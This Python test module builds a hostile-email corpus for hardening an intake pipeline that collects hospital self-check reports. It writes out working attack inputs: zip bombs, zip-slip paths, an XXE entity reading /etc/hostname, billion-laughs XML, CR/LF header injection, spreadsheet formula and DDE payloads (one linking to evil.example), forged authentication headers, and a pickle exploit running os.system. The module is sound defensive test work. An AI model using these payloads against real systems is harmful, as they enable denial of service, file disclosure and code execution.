"""The hostile-mail corpus: every attack of issue 7, built in memory from text (no checked-in binaries).

`hostile_corpus()` returns one `HostileCase` per file to ingest: its bytes, what it
attacks, the reason the pipeline must record somewhere (a substring of a problem or
parse error) and, for the cases that carry one, the roster institution whose genuine
report travels with the attack and must still be attributed.  `write_corpus()` stores
the cases as .eml files.  Used by tests/test_hostile.py and scripts/reliability.

The last section holds helpers the sandbox tests run inside the parser process
(a parser that hangs, crashes or eats memory).
"""

from __future__ import annotations

import base64
import functools
import io
import os
import random
import re
import signal
import sys
import time
import urllib.parse
import zipfile
from dataclasses import dataclass
from pathlib import Path

from docx import Document

from tests import docfactory as f

CRLF = b"\r\n"
RECEIVED = b"Received: from mx.hospital.example by mail.gz.gov.cn; Mon, 08 Jul 2024 10:%02d:00 +0800"
TITLE = "电子健康码平台应用自查情况报告"
SECTIONS = (
    "一、基本情况",
    "我单位已完成电子健康码平台应用情况自查，未发现任意用户绑定风险。",
    "二、整改措施及完成时限",
    "2024年7月31日前完成人脸核验改造。",
    "三、其他需要说明的事项",
    "无。",
)
ZIP_SLIP_PROBE = "intake-zipslip-probe"  # a name that must never appear on disk
# Member names and filenames that would escape a folder if anyone used them as a path.
ZIP_SLIP_NAMES = (
    f"../../../../tmp/{ZIP_SLIP_PROBE}.txt",
    f"/tmp/{ZIP_SLIP_PROBE}-abs.txt",
    f"..\\..\\..\\{ZIP_SLIP_PROBE}.bat",
    f"C:/Windows/System32/{ZIP_SLIP_PROBE}.dll",
)
FORMULAS = (
    '=HYPERLINK("http://evil.example/?q="&A1,"点击查看报告")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A1",
    "=1+1",
)
INJECTED_HEADER = "Bcc: victim@evil.example"
AUTHSERV_ID = "mail.gz.gov.cn"  # config.toml [security] authserv_id


@dataclass(frozen=True)
class HostileCase:
    name: str  # file stem (ASCII, safe): NN-what
    raw: bytes
    attack: str  # what it throws at the pipeline, in a few words
    refusal: str = ""  # substring of a problem / parse error the pipeline must record ("" = none needed)
    genuine: str = ""  # roster name of the genuine report it carries, which must be attributed
    review: str = ""  # substring of the review reason it must get ("" = none needed)
    refused: str = ""  # not mail: no row, a refusal with this reason (storage.vocab.Refusal) recorded instead

    @property
    def filename(self) -> str:
        return f"{self.name}.eml"


# -- building blocks --------------------------------------------------------------------------


def encoded_word(text: str) -> bytes:
    return b"=?utf-8?B?" + base64.b64encode(text.encode("utf-8")) + b"?="


def rfc2231(name: str) -> bytes:
    return b"filename*=utf-8''" + urllib.parse.quote(name, safe="").encode("ascii")


def attachment(data: bytes, filename: str, ctype: str = "application/octet-stream", *,
               payload: bytes | None = None) -> bytes:  # fmt: skip
    """A base64 attachment part; `payload` replaces the encoded body (to break it on purpose)."""
    body = payload if payload is not None else base64.encodebytes(data).replace(b"\n", CRLF)
    return CRLF.join([
        b"Content-Type: " + ctype.encode(),
        b"Content-Transfer-Encoding: base64",
        b"Content-Disposition: attachment; " + rfc2231(filename),
        b"",
        body,
    ])  # fmt: skip


def text_part(text: str) -> bytes:
    return b"Content-Type: text/plain; charset=utf-8" + CRLF + CRLF + text.encode("utf-8")


def mail(n: int, *, subject: str | bytes = "自查报告", sender: str | bytes = "信息科 <xxk@hospital.example>",
         parts: list[bytes] | None = None, body: str = "请查收附件。", message_id: str | None = "",
         extra: list[bytes] | None = None, boundary: bytes = b"==hostile==") -> bytes:  # fmt: skip
    """One message as raw bytes.  `message_id` "" makes a unique one, None leaves the header out."""
    headers = [RECEIVED % (n % 60)]
    headers.append(b"From: " + (sender if isinstance(sender, bytes) else _address(sender)))
    headers.append(b"To: xxb@gz.gov.cn")
    headers.append(b"Subject: " + (subject if isinstance(subject, bytes) else encoded_word(subject)))
    headers.append(b"Date: Mon, 08 Jul 2024 10:00:00 +0800")
    if message_id is not None:
        headers.append(b"Message-ID: <" + (message_id or f"hostile-{n}@hospital.example").encode() + b">")
    headers.extend(extra or [])
    headers.append(b"MIME-Version: 1.0")
    if parts is None:
        headers += [b"Content-Type: text/plain; charset=utf-8", b"Content-Transfer-Encoding: 8bit"]
        return CRLF.join(headers) + CRLF + CRLF + body.encode("utf-8")
    headers.append(b'Content-Type: multipart/mixed; boundary="' + boundary + b'"')
    out = CRLF.join(headers) + CRLF + CRLF
    for part in [text_part(body), *parts]:
        out += b"--" + boundary + CRLF + part + CRLF
    return out + b"--" + boundary + b"--" + CRLF


def _address(value: str) -> bytes:
    name, _, addr = value.rpartition(" <")
    if not name:
        return value.encode()
    return encoded_word(name) + b" <" + addr.encode()


@functools.cache
def report_docx(institution: str) -> bytes:
    """A genuine self-check report of `institution` (title, the three sections, 报送单位 line, date)."""
    doc = Document()
    doc.add_paragraph(f"{institution}{TITLE}", style="Title")
    for line in SECTIONS:
        doc.add_paragraph(line)
    doc.add_paragraph(f"报送单位（盖章）：{institution}")
    doc.add_paragraph("2024年7月8日")
    buf = io.BytesIO()
    doc.save(buf)
    return buf.getvalue()


def anonymous_report_docx() -> bytes:
    """A report that names no institution at all: it must go to review, not be guessed."""
    doc = Document()
    doc.add_paragraph(f"我院{TITLE}", style="Title")
    for line in SECTIONS:
        doc.add_paragraph(line)
    doc.add_paragraph("2024年7月8日")
    buf = io.BytesIO()
    doc.save(buf)
    return buf.getvalue()


def bomb_zip(expanded: int, name: str = "zeros.bin") -> bytes:
    """An honest high-ratio zip bomb: `expanded` zero bytes, streamed (never held in memory)."""
    buf = io.BytesIO()
    chunk = b"\0" * (1 << 20)
    with (
        zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf,
        zf.open(name, "w", force_zip64=True) as out,
    ):
        for _ in range(expanded // len(chunk)):
            out.write(chunk)
    return buf.getvalue()


def nested_bomb(inner: bytes, fanout: int = 10, levels: int = 2) -> bytes:
    """42.zip style: `fanout` copies of a zip of `fanout` copies of ... the inner bomb."""
    data = inner
    for level in range(levels):
        data = f.zip_bytes({f"layer{level}-{i}.zip": data for i in range(fanout)})
    return data


def overlap_bomb() -> bytes:
    """The "better zip bomb": many central-directory records share one compressed kernel."""
    kernel = f.RawEntry(b"kernel.txt", b"A" * 900_000)  # under the ratio check's floor
    return f.raw_zip([kernel], directory=[(0, 0)] * 60)


def deep_zip(payload: bytes, levels: int) -> bytes:
    data = payload
    for level in range(levels):
        data = f.zip_bytes({f"level{levels - level}.zip" if level else "report.docx": data})
    return data


def nested_multipart(levels: int) -> bytes:
    head = CRLF.join([RECEIVED % 1, b"From: deep@hospital.example", b"To: xxb@gz.gov.cn",
                      b"Subject: nesting", b"Message-ID: <deep-nesting@hospital.example>", b"MIME-Version: 1.0",
                      b'Content-Type: multipart/mixed; boundary="b0"']) + CRLF + CRLF  # fmt: skip
    body = bytearray()
    for i in range(1, levels):
        body += b'--b%d\r\nContent-Type: multipart/mixed; boundary="b%d"\r\n\r\n' % (i - 1, i)
    body += b"--b%d\r\nContent-Type: text/plain\r\n\r\ninnermost\r\n" % (levels - 1)
    for i in range(levels - 1, -1, -1):
        body += b"--b%d--\r\n" % i
    return head + bytes(body)


def attached_message_chain(levels: int, innermost: bytes) -> bytes:
    data = innermost
    for level in range(levels):
        data = CRLF.join([RECEIVED % level, b"From: fwd%d@hospital.example" % level, b"Subject: Fw: fw",
                          b"MIME-Version: 1.0", b'Content-Type: multipart/mixed; boundary="m%d"' % level, b"",
                          b"--m%d" % level, text_part("转发"), b"--m%d" % level,
                          b"Content-Type: message/rfc822", b"", data, b"--m%d--" % level, b""])  # fmt: skip
    return data


def fake_exe() -> bytes:
    return (
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
        + b"\x00" * 48
        + b"PE\x00\x00"
        + bytes(range(256)) * 2
    )


# -- the corpus -------------------------------------------------------------------------------


def hostile_corpus() -> list[HostileCase]:
    """Every hostile input, in a fixed order (deterministic except random padding bytes)."""
    rng = random.Random(7)
    cases: list[HostileCase] = []

    def add(attack: str, raw: bytes, refusal: str = "", genuine: str = "", review: str = "", refused: str = "") -> None:
        slug = re.sub(r"[^a-z0-9]+", "-", attack.split(":")[0].lower()).strip("-")[:48]
        cases.append(HostileCase(f"{len(cases) + 1:02d}-{slug}", raw, attack, refusal, genuine, review, refused))

    sysu3 = "中山大学附属第三医院"
    full = mail(1, subject="自查报告", sender="中山三院信息科 <xxk@sysu3.example>",
                parts=[attachment(report_docx(sysu3), "自查报告.docx"),
                       text_part("附言：" + "很长的附言" * 2000)])  # fmt: skip
    add("truncated MIME: cut inside the last part", full[: len(full) - 5000], genuine=sysu3)
    add("truncated MIME: cut inside the report", full[: len(full) // 2], "")

    gz1 = "广州市第一人民医院"
    add("broken base64 beside a genuine report",
        mail(3, sender="市一医院 <info@gz1.example>",
             parts=[attachment(b"", "损坏.docx", payload=b"UEsDBBQ!!!!@@@@****====\r\n====AAAA=\r\n%%%"),
                    attachment(report_docx(gz1), "自查报告.docx")]), genuine=gz1)  # fmt: skip
    add("0-byte and garbage attachments",
        mail(4, parts=[attachment(b"", "空文件.docx"), attachment(rng.randbytes(4096), "自查报告.docx"),
                       attachment(rng.randbytes(2048), "报告.pdf", "application/pdf")]), "empty")  # fmt: skip
    # Not mail at all: refused by `intake ingest` with the reason recorded (ingest_refusals), no row.
    add("0-byte file", b"", refused="empty")
    add("garbage file", rng.randbytes(8192), refused="not_mail")
    add("garbage with NULs and no header end", b"\x00\xff\xfe" * 3000 + b"From: x\x00\r\nSubject: \x00\x01",
        refused="not_mail")

    gd2 = "广东省第二人民医院"
    add("25 MB attachment beside a genuine report",
        mail(8, sender="省二医 <it@gd2h.example>",
             parts=[attachment(report_docx(gd2), "自查报告.docx"),
                    attachment(rng.randbytes(25_000_000), "监控录像.mp4", "video/mp4")]), genuine=gd2)  # fmt: skip

    yx = "广州市越秀区儿童医院"
    add("zip bomb (ratio) beside a genuine report",
        mail(9, sender="越秀儿童医院 <it@yxch.example>",
             parts=[attachment(bomb_zip(150_000_000), "材料.zip", "application/zip"),
                    attachment(report_docx(yx), "自查报告.docx")]), "zip_bomb", genuine=yx)  # fmt: skip
    add(
        "zip bomb (42.zip style nesting)",
        mail(10, parts=[attachment(nested_bomb(bomb_zip(20_000_000)), "42.zip", "application/zip")]),
        "zip_bomb",
    )
    add(
        "zip bomb (overlapping entries)",
        mail(11, parts=[attachment(overlap_bomb(), "overlap.zip", "application/zip")]),
        "overlapping entries",
    )

    py2 = "广州市番禺区第二人民医院"
    slip = {name: b"owned" for name in ZIP_SLIP_NAMES}
    slip["../../番禺二院自查报告.docx"] = f.docx_report()
    add("zip-slip member names around a genuine report",
        mail(12, sender="番禺二院 <it@py2h.example>", parts=[attachment(f.zip_bytes(slip), "报告.zip")]),
        genuine=py2)  # fmt: skip
    encrypted = f.raw_zip([f.RawEntry(b"report.docx", b"\x8f\x12ciphertext" * 50, flags=0x1, deflate=False)])
    add("encrypted zip", mail(13, parts=[attachment(encrypted, "加密.zip")]), "encrypted_zip")
    add("deeply nested zips", mail(14, parts=[attachment(deep_zip(report_docx(gz1), 12), "套娃.zip")]),
        "archive_too_deep")  # fmt: skip

    secret_path = "/etc/hostname"
    xxe = f.minimal_docx(f.paragraph_xml("前 &xxe; 后"),
                         doctype=f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file://{secret_path}">]>')  # fmt: skip
    add("XXE docx", mail(15, parts=[attachment(xxe, "xxe.docx")]), "DTD")
    lol = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    laughs = f.minimal_docx(
        f.paragraph_xml("&lol9;"), doctype=f'<!DOCTYPE w:document [<!ENTITY lol0 "lol">{lol}]>'
    )
    add("billion-laughs docx", mail(16, parts=[attachment(laughs, "lol.docx")]), "entity expansion refused")

    zyy = "广州市中医医院"
    docm_body = "".join(f.paragraph_xml(t) for t in (f"{zyy}{TITLE}", *SECTIONS, f"报送单位（盖章）：{zyy}",
                                                     "2024年7月8日"))  # fmt: skip
    docm = f.minimal_docx(docm_body, main_type=f.DOCM_MAIN, extra={"word/vbaProject.bin": b"\x00" * 64})
    add(
        "docm (macros) carrying a genuine report",
        mail(17, sender="市中医院 <it@gzszyy.example>", parts=[attachment(docm, "自查报告.docm")]),
        genuine=zyy,
    )
    truncated = f.docx_report()
    add("truncated docx", mail(18, parts=[attachment(truncated[: len(truncated) // 2], "自查报告.docx")]),
        "truncated: docx")  # fmt: skip

    zj = "南方医科大学珠江医院"
    hostile_names = [
        "../../../etc/passwd", "..\\..\\boot.ini", "报告\x00\x07\x1b[31m红字\x7f.txt", "A" * 296 + ".txt",
        "CON.docx", "NUL", "aux.txt", f"x\r\n{INJECTED_HEADER}\r\n.txt", "/tmp/../../" + ZIP_SLIP_PROBE + ".txt",
    ]  # fmt: skip
    add("hostile filenames around a genuine report",
        mail(19, sender="珠江医院 <it@zjyy.example>",
             parts=[attachment(b"root:x:0:0:root:/root:/bin/bash\n", name) for name in hostile_names]
             + [attachment(report_docx(zj), f"../../{ZIP_SLIP_PROBE}/{zj}自查报告.docx")]), genuine=zj)  # fmt: skip

    gy5 = "广州医科大学附属第五医院"
    add("formula-injection subject, display name and filename on a genuine report",
        mail(20, subject=FORMULAS[0], sender=f"{FORMULAS[1]} <it@gy5.example>",
             parts=[attachment(report_docx(gy5), "=1+1.docx")]), genuine=gy5)  # fmt: skip
    add("formula injection in a review item",
        mail(21, subject=FORMULAS[2], sender=f"{FORMULAS[3]} <x@unknown.example>",
             parts=[attachment(anonymous_report_docx(), "-2+3.docx")]))  # fmt: skip
    add("formula injection in raw 8-bit headers",
        mail(22, subject=FORMULAS[4].encode(), sender=b"@SUM(1) <y@unknown.example>",
             parts=[attachment(anonymous_report_docx(), "@SUM(A1).docx")]))  # fmt: skip

    eye = "中山大学中山眼科中心"
    add("CR/LF header injection in display name and subject",
        mail(23, subject=f"自查报告\r\n{INJECTED_HEADER}", sender=f"眼科\r\n{INJECTED_HEADER}\r\n <it@zoc-eye.example>",
             parts=[attachment(report_docx(eye), "自查报告.docx")]), genuine=eye)  # fmt: skip

    nf3 = "南方医科大学第三附属医院"
    many = [attachment(report_docx(nf3), "自查报告.docx")]
    many += [attachment(f"附件 {i}".encode(), f"附件{i}.txt", "text/plain") for i in range(299)]
    add(
        "300 attachments, the first a genuine report",
        mail(24, sender="南医三院 <it@nf3.example>", parts=many),
        "attachment_limit",
        genuine=nf3,
    )
    add("2,000-level multipart nesting", nested_multipart(2000), "headers only")
    add(
        "attached messages nested 10 deep",
        mail(26, parts=[attached_message_chain(10, mail(99))]),
        "message_too_deep",
    )

    zfy = "广东省职业病防治院"
    add("5 MB header line beside a genuine report",
        mail(27, sender="省职防院 <it@gdoh.example>", extra=[b"X-Padding: " + b"a" * 5_000_000],
             parts=[attachment(report_docx(zfy), "自查报告.docx")]), "header section", genuine=zfy)  # fmt: skip
    add(
        "5 MB of encoded-words in one header",
        mail(28, subject=b" ".join([encoded_word("你好")] * 250_000)),
        "header section",
    )

    add(
        "executable posing as a PDF",
        mail(29, parts=[attachment(fake_exe(), "自查报告.pdf", "application/pdf")]),
        "executable",
    )

    add("duplicate Message-ID (first)", mail(30, body="第一封", message_id="same-id@hospital.example"))
    add(
        "duplicate Message-ID (second, other bytes)",
        mail(31, body="第二封", message_id="same-id@hospital.example"),
    )
    add("missing Message-ID", mail(32, message_id=None, body="没有 Message-ID"))

    add("multipart without boundary parameter",
        CRLF.join([RECEIVED % 33, b"From: a@hospital.example", b"Subject: x", b"MIME-Version: 1.0",
                   b"Content-Type: multipart/mixed", b"", b"--x", b"hello", b"--x--"]), "")  # fmt: skip
    add("unknown charset and invalid bytes",
        CRLF.join([RECEIVED % 34, b"From: a@hospital.example", b"Subject: =?x-evil?B?5L2g?=", b"MIME-Version: 1.0",
                   b"Content-Type: text/plain; charset=x-evil-charset", b"", b"\xff\xfe\x80 body"]))  # fmt: skip
    add("NUL bytes and control characters in headers",
        CRLF.join([RECEIVED % 35, b"From: a\x00b <a@hospital.example>", b"Subject: \x00\x1b[2J\x07",
                   b"Content-Type: text/plain", b"", b"body"]))  # fmt: skip

    # Forged senders: the address of a known contact must not attribute a report by itself.
    known, known_name = "kuanghui@sysucc.example", "中山大学肿瘤防治中心"
    ours = b"Authentication-Results: " + AUTHSERV_ID.encode() + b"; spf=fail smtp.mailfrom=sysucc.example;"
    ours += b" dkim=none (no signature); dmarc=fail (p=none) header.from=sysucc.example"
    forged = b"Authentication-Results: mail.gz.gov.cn.attacker.example; spf=pass; dkim=pass; dmarc=pass"
    add("forged sender: our server says SPF/DMARC fail, a stranger's header says pass",
        mail(36, sender=f"信息科 <{known}>", extra=[ours, forged],
             parts=[attachment(anonymous_report_docx(), "自查报告.docx")]), review="SPF/DKIM/DMARC")  # fmt: skip
    add("two From headers with a known contact's address",
        mail(37, sender=f"信息科 <{known}>", extra=[b"From: attacker@evil.example"],
             parts=[attachment(anonymous_report_docx(), "自查报告.docx")]), review="From")  # fmt: skip
    stranger = b"Authentication-Results: evil.example; spf=fail; dkim=fail; dmarc=fail"
    passed = (
        b"Authentication-Results: "
        + AUTHSERV_ID.encode()
        + b" 1; spf=pass; dkim=pass header.d=sysucc.example"
    )
    add("a stranger's fail verdict is ignored: our pass stands",
        mail(38, sender=f"信息科 <{known}>", extra=[passed, stranger],
             parts=[attachment(anonymous_report_docx(), "自查报告.docx")]), genuine=known_name)  # fmt: skip
    return cases


def write_corpus(folder: Path, cases: list[HostileCase] | None = None) -> list[Path]:
    """Write the corpus as .eml files (plus one byte-identical copy); returns every path written."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for case in cases if cases is not None else hostile_corpus():
        path = folder / case.filename
        path.write_bytes(case.raw)
        paths.append(path)
    copy = folder / "99-identical-copy.eml"  # same bytes as the first case: one row, two sources
    copy.write_bytes(paths[0].read_bytes())
    paths.append(copy)
    return paths


# -- judging the outcome -----------------------------------------------------------------------


@dataclass(frozen=True)
class Verdict:
    case: HostileCase
    message_id: int | None
    problem: str  # "" when the pipeline held: stored, reason recorded, genuine report attributed

    @property
    def held(self) -> bool:
        return not self.problem


def evaluate(ctx, folder: Path, cases: list[HostileCase]) -> list[Verdict]:  # noqa: ANN001 - a Context
    """Did each case end as it must?  A row, the refusal reason, the genuine institution, the review reason."""
    from sqlalchemy import select

    from pipeline.outputs.views import message_views
    from storage.refusals import fetch_refusals
    from storage.schema import items, message_sources

    with ctx.db.connect() as conn:
        by_ref = {r.ref: r.message_id for r in conn.execute(select(message_sources))}
        refused = {r.ref: r.reason for r in fetch_refusals(conn)}
        item_problems: dict[int, list[str]] = {}
        for r in conn.execute(select(items.c.message_id, items.c.problem)):
            item_problems.setdefault(r.message_id, []).append(r.problem)
    views = {v.message.id: v for v in message_views(ctx)}
    verdicts = []
    for case in cases:
        ref = str(folder / case.filename)
        message_id = by_ref.get(ref)
        if case.refused:
            got = refused.get(ref, "")
            problem = "" if message_id is None and got == case.refused else f"stored as {message_id}, refused as {got!r}"
            verdicts.append(Verdict(case, message_id, problem))
            continue
        view = views.get(message_id) if message_id is not None else None
        verdicts.append(
            Verdict(case, message_id, _judge(case, view, item_problems.get(message_id or -1, [])))
        )
    return verdicts


def _judge(case: HostileCase, view, item_problems: list[str]) -> str:  # noqa: ANN001 - a MessageView
    if view is None:
        return "no row"
    m = view.message
    if m.parse_status not in ("ok", "failed") or (m.parse_status == "failed" and not m.parse_error):
        return f"parse status {m.parse_status!r} without a reason"
    recorded = [m.parse_error, *m.problems, *item_problems]
    if case.refusal and not any(case.refusal in text for text in recorded):
        return f"no recorded reason containing {case.refusal!r}"
    if case.genuine and case.genuine not in view.institutions:
        return f"genuine report of {case.genuine} not attributed (got {view.institutions})"
    reasons = [d.reason for d in view.decisions if d.kind == "needs_review"]
    if case.review and not any(case.review in r for r in reasons):
        return f"no review reason containing {case.review!r} (got {reasons})"
    return ""


# -- faults for the parse sandbox (run inside the child via ParseSandbox.call) -------------------


def hang(seconds: float) -> str:
    time.sleep(seconds)
    return "woke up"


def crash() -> None:
    os.kill(os.getpid(), signal.SIGSEGV)


def eat_memory(megabytes: int) -> int:
    hog = [bytearray(1 << 20) for _ in range(megabytes)]
    return len(hog)


def child_pid() -> int:
    return os.getpid()


def answer_with_pickle(marker: str) -> str:
    """Play a compromised parser: write, as the answer frame, a pickle whose loading would run
    `touch marker` in the parent (the old protocol unpickled answers)."""
    import fcntl
    import pickle
    import stat
    import struct

    class Exploit:
        def __reduce__(self) -> tuple:
            return (os.system, (f"touch {marker}",))

    payload = pickle.dumps(("ok", Exploit()))
    for fd in range(3, 64):  # the protocol's private write end: the only write-only pipe
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode) and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
                os.write(fd, struct.pack("<Q", len(payload)) + payload)
                return "sent"
        except OSError:
            continue
    return "no pipe found"


def child_environ() -> dict[str, str]:
    return dict(os.environ)


def is_loaded(module: str) -> bool:
    """Whether the child has imported `module` (e.g. an OCR library a text-lane parser must not load)."""
    return module in sys.modules


def read_file(path: str) -> int:
    with open(path, "rb") as handle:
        return len(handle.read())
